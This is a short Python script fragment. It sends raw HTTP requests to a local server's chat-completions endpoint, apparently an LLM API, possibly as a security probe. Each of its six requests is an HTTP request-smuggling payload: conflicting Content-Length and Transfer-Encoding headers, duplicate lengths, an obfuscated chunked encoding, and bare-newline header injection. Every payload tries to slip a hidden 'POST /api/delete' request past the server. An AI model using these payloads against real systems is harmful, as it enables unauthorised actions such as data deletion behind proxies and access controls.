HOST, PORT = "127.0.0.1", int(URL.split(":")[2].split("/")[0])
inner = b"POST /api/delete HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}"
body = json.dumps({"model": MODEL, "stream": False, "messages": []}).encode()
def send(head, data):
    with socket.create_connection((HOST, PORT), timeout=10) as connection:
        connection.sendall(head + b"\r\n\r\n" + data)
        connection.shutdown(socket.SHUT_WR)
        try:
            while connection.recv(65536):
                pass
        except OSError:
            pass
path = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
send(path + b"Content-Length: %d" % len(body), body + inner)
send(path + b"Content-Length: %d\r\nTransfer-Encoding: chunked" % (len(body) + len(inner)), b"0\r\n\r\n" + inner)
send(path + b"Transfer-Encoding: chunked", b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) + inner)
send(path + b"Content-Length: %d\r\nContent-Length: %d" % (len(body), len(body) + len(inner)), body + inner)
send(path + b"Transfer-Encoding: xchunked\r\nContent-Length: 0", inner)
send(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nX: 1\n\nPOST /api/delete HTTP/1.1", inner)
print("sent")
